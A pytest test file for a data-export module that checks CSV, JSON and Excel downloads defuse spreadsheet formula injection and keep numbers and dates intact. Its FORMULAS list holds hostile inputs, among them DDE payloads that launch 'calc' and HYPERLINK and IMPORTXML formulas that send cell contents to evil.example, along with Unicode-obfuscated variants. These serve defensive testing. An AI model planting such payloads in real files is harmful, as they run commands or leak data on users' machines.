"""Files to download: what is text stays text in every program, what is a number stays one."""

import csv
import datetime as dt
import io
import json
import tracemalloc
from contextlib import closing
from decimal import Decimal

import pytest
from openpyxl import load_workbook
from openpyxl.utils.escape import unescape

from barnetwatch.lib import exports
from barnetwatch.lib.exports import FORMATS, Column, export, safe_text

COLUMNS = [Column("Contract"), Column("At risk", is_pounds=True)]

#: Text that is a formula, an order or a trap to some spreadsheet.
FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?x="&A1,"Open")',
    '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
    "=WEBSERVICE(A1)",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "={1,2,3}",
    "==1",
    "+1+1",
    "+44 20 8359 2000",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "\N{MINUS SIGN}1+1",
    "@SUM(A1:A9)",
    "@cmd|' /C calc'!A0",
    "|calc",
    "\t=1+1",
    "\tindented",
    "\r=1+1",
    "\n=1+1",
    "\r\n@SUM(1)",
    " =1+1",
    "     =1+1",
    "\N{NO-BREAK SPACE}=1+1",
    "\N{IDEOGRAPHIC SPACE}+1",
    "\N{ZERO WIDTH SPACE}=1+1",
    "\N{ZERO WIDTH NO-BREAK SPACE}=1+1",
    "\N{RIGHT-TO-LEFT OVERRIDE}=1+1",
    "\N{LINE SEPARATOR}=1+1",
    "\N{FULLWIDTH EQUALS SIGN}1+1",
    "\N{FULLWIDTH PLUS SIGN}1+1",
    "\N{FULLWIDTH HYPHEN-MINUS}1+1",
    "\N{FULLWIDTH COMMERCIAL AT}SUM(1)",
    "\N{FULLWIDTH VERTICAL LINE}calc",
    "\N{SMALL EQUALS SIGN}1",
    "\N{TWO CONSECUTIVE EQUALS SIGNS}1",
    "\N{SUPERSCRIPT EQUALS SIGN}1",
    "\x00=1+1",
    "\x1b\x0b=1+1",
    "\x9b+1",
    "\ud800=1+1",
]
#: Text that looks odd and is none.
HARMLESS = [
    "Capita plc",
    "1 = 1",
    'O\'Neill & Sons, "the" firm; <b>',
    "https://evil.example/",
    "mailto:someone@example.org",
    "007",
    "1e5",
    "_x0041_",
    "TRUE",
    "line one\nline two",
    "{=1}",
    "Crèche £4.2m – “late”",
]


def body(answer) -> bytes:
    with closing(answer):
        return b"".join(answer.streaming_content)


def read_back(kind: str, columns, rows) -> list[list[object]]:
    """The cells of a file, its heading first, as the program for it reads them."""
    written = body(export(kind, columns, rows, "contracts"))
    if kind == "csv":
        return list(csv.reader(io.StringIO(written.decode("utf-8-sig"), newline="")))
    if kind == "json":
        found = json.loads(written, parse_float=Decimal)
        return [[each.heading for each in columns], *(list(row.values()) for row in found)]
    sheet = load_workbook(io.BytesIO(written)).active
    return [[_as_excel(cell.value) for cell in row] for row in sheet.iter_rows()]


def _as_excel(value: object) -> object:
    """Text within a cell keeps its escapes in openpyxl; Excel reads them."""
    return unescape(value) if isinstance(value, str) else value


@pytest.mark.parametrize("kind", FORMATS)
@pytest.mark.parametrize("text", FORMULAS, ids=ascii)
def test_no_text_begins_as_a_formula(kind, text):
    _heading, (cell, _sum) = read_back(kind, COLUMNS, [[text, Decimal("1.00")]])

    assert cell.startswith("'")
    kept = text.translate(dict.fromkeys((0, 0x0B, 0x1B, 0x9B, 0xD800)))
    assert cell.removeprefix("'") == kept.replace("\r\n", "\n").replace("\r", "\n")


@pytest.mark.parametrize("text", FORMULAS, ids=ascii)
def test_a_sheet_holds_every_text_as_text(text):
    written = body(export("xlsx", COLUMNS, [[text, None]], "contracts"))

    cell = load_workbook(io.BytesIO(written)).active["A2"]
    assert cell.data_type in ("s", "inlineStr")
    assert cell.hyperlink is None


@pytest.mark.parametrize("kind", FORMATS)
@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_stays_as_it_is(kind, text):
    _heading, (cell, _sum) = read_back(kind, COLUMNS, [[text, None]])

    assert cell == text


@pytest.mark.parametrize("kind", FORMATS)
def test_a_heading_is_text_like_any_other(kind):
    written = body(export(kind, [Column("=1+1")], [["a"]], "contracts"))

    if kind == "xlsx":
        assert load_workbook(io.BytesIO(written)).active["A1"].value == "'=1+1"
    else:
        assert b"'=1+1" in written


def test_control_characters_are_left_out():
    assert safe_text("a\x00b\x07c\x1b[31md\x7fe\x85f\ud83dg\ufffeh") == "abc[31mdefgh"


class TestNumbers:
    ROWS = [["Less", Decimal("-250.00")], ["More", Decimal("99999999999.99")]]

    def test_are_plain_digits_in_csv(self):
        assert read_back("csv", COLUMNS, self.ROWS)[1:] == [
            ["Less", "-250.00"],
            ["More", "99999999999.99"],
        ]

    def test_are_exact_in_json(self):
        written = body(export("json", COLUMNS, self.ROWS, "contracts")).decode()

        assert '"At risk": -250.00' in written
        assert '"At risk": 99999999999.99' in written

    def test_are_pounds_in_a_sheet(self):
        written = body(export("xlsx", COLUMNS, self.ROWS, "contracts"))

        cell = load_workbook(io.BytesIO(written)).active["B2"]
        assert (cell.value, cell.data_type) == (-250, "n")
        assert '"£"#,##0.00' in cell.number_format

    @pytest.mark.parametrize("kind", FORMATS)
    def test_that_are_no_pounds_keep_their_decimals(self, kind):
        columns = [Column("Failures"), Column("Per cent")]

        _heading, row = read_back(kind, columns, [[12, Decimal("1.36")]])

        assert [str(cell) for cell in row] == ["12", "1.36"]

    def test_that_are_missing_are_empty(self):
        rows = [["None", None]]

        assert read_back("csv", COLUMNS, rows)[1] == ["None", ""]
        assert read_back("json", COLUMNS, rows)[1] == ["None", None]
        assert read_back("xlsx", COLUMNS, rows)[1] == ["None", None]


class TestDates:
    COLUMNS = [Column("Ends on"), Column("Recorded")]
    ROWS = [[dt.date(2023, 8, 31), dt.datetime(2018, 10, 1, 8, 30, tzinfo=dt.UTC)]]

    @pytest.mark.parametrize("kind", ["csv", "json"])
    def test_are_iso_8601(self, kind):
        assert read_back(kind, self.COLUMNS, self.ROWS)[1] == [
            "2023-08-31",
            "2018-10-01T08:30:00+00:00",
        ]

    def test_are_dates_in_a_sheet_and_moments_are_in_london_time(self):
        assert read_back("xlsx", self.COLUMNS, self.ROWS)[1] == [
            dt.datetime(2023, 8, 31),  # noqa: DTZ001
            dt.datetime(2018, 10, 1, 9, 30),  # noqa: DTZ001
        ]

    def test_before_excel_counts_days_are_text(self):
        rows = [[dt.date(1888, 1, 2), None]]

        assert read_back("xlsx", self.COLUMNS, rows)[1][0] == "1888-01-02"


@pytest.mark.parametrize(
    ("kind", "yes"), [("csv", "yes"), ("xlsx", "yes"), ("json", True)], ids=str
)
def test_true_is_yes(kind, yes):
    assert read_back(kind, [Column("Open")], [[True]])[1] == [yes]


@pytest.mark.parametrize("kind", FORMATS)
def test_no_rows_are_a_file_all_the_same(kind):
    found = read_back(kind, COLUMNS, [])

    assert found == [["Contract", "At risk"]]


def test_a_file_is_named_and_typed():
    with closing(export("xlsx", COLUMNS, [], "contracts-2018-10-01")) as answer:
        assert answer["Content-Disposition"] == 'attachment; filename="contracts-2018-10-01.xlsx"'
        assert answer["Content-Type"].endswith("spreadsheetml.sheet")
    assert export("csv", COLUMNS, [], "c")["Content-Type"] == "text/csv; charset=utf-8"


def test_a_full_sheet_is_followed_by_another(monkeypatch):
    monkeypatch.setattr(exports, "SHEET_ROWS", 2)

    written = body(export("xlsx", [Column("Number")], [[n] for n in range(4)], "numbers"))

    sheets = load_workbook(io.BytesIO(written)).worksheets
    assert [[row[0].value for row in sheet.iter_rows()] for sheet in sheets] == [
        ["Number", 0, 1],
        ["Number", 2, 3],
    ]


@pytest.mark.parametrize("kind", ["csv", "json"])
def test_rows_are_taken_as_they_are_sent(kind):
    taken = 0

    def rows():
        nonlocal taken
        for taken in range(1, 10_001):
            yield [f"Contract {taken}", Decimal("1.00")]

    parts = iter(export(kind, COLUMNS, rows(), "contracts").streaming_content)
    sent = [next(parts) for _each in range(100)]

    assert len(sent) == 100
    assert taken <= 100


@pytest.mark.parametrize("kind", FORMATS)
def test_memory_does_not_grow_with_the_rows(kind):
    def peak(count: int) -> int:
        rows = ([f"Contract {n}" * 20, Decimal("1.00")] for n in range(count))
        tracemalloc.start()
        try:
            with closing(export(kind, COLUMNS, rows, "contracts")) as answer:
                for _part in answer.streaming_content:
                    pass
            return tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()

    peak(10)
    # Twenty thousand such rows are six megabytes of text.
    assert peak(20_000) < peak(200) + 1_000_000
